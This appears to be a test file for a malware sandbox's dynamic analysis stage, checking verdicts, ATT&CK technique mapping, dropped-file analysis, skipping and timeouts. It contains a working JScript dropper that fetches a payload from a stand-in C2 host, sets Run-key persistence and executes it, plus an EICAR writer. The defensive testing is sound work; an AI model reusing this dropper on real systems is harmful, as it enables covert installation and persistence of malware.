// The dynamic stage with its real processes: harmless droppers of our own, files that nothing runs, and scripts that try
// to take the machine with them.
import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import { dynamicStage } from '../../src/analysis/dynamic/dynamic-stage.ts'
import { emulateEngine } from '../../src/analysis/dynamic/emulate-engine.ts'
import { finishJob } from '../../src/analysis/finish.ts'
import type { StageOutcome } from '../../src/analysis/stage.ts'
import { ProcessPool } from '../../src/analysis/static/process-pool.ts'
import { staticStage } from '../../src/analysis/static/static-stage.ts'

const memoryMibMax = 1024
const pool = new ProcessPool({ size: 1, memoryMibMax, setup: { kind: 'setup', yara: [], capa: [] } })
const engine = emulateEngine({ size: 1 })
const stage = dynamicStage({ engines: [engine], pool, memoryMibMax })
const before = staticStage({ pool, timeoutMs: 60_000, memoryMibMax })

after(() => {
  pool.close()
  engine.close()
})

const run = (text: string, fileName: string, timeoutS = 120): Promise<StageOutcome> =>
  stage.run({ fileName, bytes: Buffer.from(text), options: { passwords: [], timeoutS } })

const DROPPER = `var shell = new ActiveXObject('WScript.Shell'), path = shell.ExpandEnvironmentStrings('%TEMP%') + '\\\\upd.exe'
var web = new ActiveXObject('MSXML2.XMLHTTP'); web.open('GET', 'http://c2.example.test/p.bin', false); web.send()
var stream = new ActiveXObject('ADODB.Stream'); stream.Type = 1; stream.Open(); stream.Write(web.responseBody); stream.SaveToFile(path, 2)
shell.RegWrite('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\Upd', path)
shell.Run(path, 0)`

interface Behavior {
  readonly techniques: readonly { readonly attack_id: string }[]
  readonly runs: readonly { readonly environment: string; readonly exit: { readonly how: string } }[]
  readonly dropped: readonly { readonly path: string; readonly sha256: string }[]
}

function behaviorOf(outcome: StageOutcome): Behavior {
  assert.equal(outcome.status, 'complete', JSON.stringify(outcome))
  return outcome.status === 'complete' ? (outcome.findings.results['behavior'] as Behavior) : assert.fail()
}

test('a dropper is convicted by what it does', async () => {
  const outcome = await run(DROPPER, 'invoice.js')
  const { techniques, runs } = behaviorOf(outcome)
  assert.ok(outcome.status === 'complete' && outcome.findings.verdict === 'malicious')
  const ids = techniques.map(({ attack_id }) => attack_id)
  for (const id of ['T1105', 'T1071.001', 'T1547.001']) assert.ok(ids.includes(id), id)
  assert.match(runs[0]?.environment ?? '', /Windows Script Host/)
})

test('findings of both stages join in one verdict and one report', async () => {
  const input = { fileName: 'invoice.js', bytes: Buffer.from(DROPPER), options: { passwords: [], timeoutS: 120 } }
  const first = await before.run(input)
  const second = await stage.run({ ...input, before: [first] })
  const { verdict, results } = finishJob([first, second], 'test')
  assert.equal(verdict, 'malicious')
  const report = JSON.parse(results ?? '{}') as Record<string, unknown>
  const stages = (report['heuristics'] as readonly { stage?: string }[]).map((one) => one.stage ?? 'static')
  assert.deepEqual([...new Set(stages)].sort(), ['dynamic', 'static'])
  assert.equal((report['verdict'] as { label: string }).label, 'malicious')
  assert.ok((report['verdict'] as { stages: { static: object } }).stages.static)
})

test('what was left behind is analysed as a file', async () => {
  const inner = `X5O!P%@AP[4\\\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`
  const outcome = await run(
    `var f=new ActiveXObject('Scripting.FileSystemObject').CreateTextFile('C:\\\\a.com');f.Write('${inner}');f.Close()`,
    'a.js',
  )
  assert.ok(outcome.status === 'complete' && outcome.findings.verdict === 'malicious', JSON.stringify(outcome))
  const [child] = outcome.findings.results['children'] as readonly { path: string; verdict: { label: string } }[]
  assert.equal(child?.path, 'C:\\a.com')
  assert.equal(child?.verdict.label, 'malicious')
})

test('seeing nothing is unknown and never clean', async () => {
  const outcome = await run('var a = 1 + 1', 'a.js')
  assert.ok(outcome.status === 'complete' && outcome.findings.verdict === 'unknown')
  assert.equal(outcome.findings.results['verdict'], undefined)
})

test('a file that nothing runs is skipped with a reason', async () => {
  const outcome = await run('Dear all, the meeting is on Monday.\n', 'note.txt')
  assert.ok(outcome.status === 'skipped' && outcome.reason.length > 10)
})

test('what the static stage saw nothing to run in costs no process', async () => {
  const bytes = Buffer.from('Dear all, the meeting is on Monday.\n')
  const first = await before.run({ fileName: 'note.txt', bytes, options: { passwords: [] } })
  assert.ok(first.status === 'complete' && first.findings.isRunnable === false)
  const startedMs = performance.now()
  const second = await stage.run({ fileName: 'note.txt', bytes, options: { passwords: [] }, before: [first] })
  assert.ok(second.status === 'skipped')
  assert.ok(performance.now() - startedMs < 500)
})

test('a native built-in that cannot be interrupted ends with its process, in its time', async () => {
  const startedMs = performance.now()
  const outcome = await run('new Array(1e9).join("a")', 'a.js', 2)
  assert.ok(outcome.status === 'timeout', JSON.stringify(outcome))
  assert.ok(performance.now() - startedMs < 60_000)
})

test('the stage works on after a sample that took its process with it', async () => {
  assert.ok((await run(DROPPER, 'invoice.js')).status === 'complete')
})
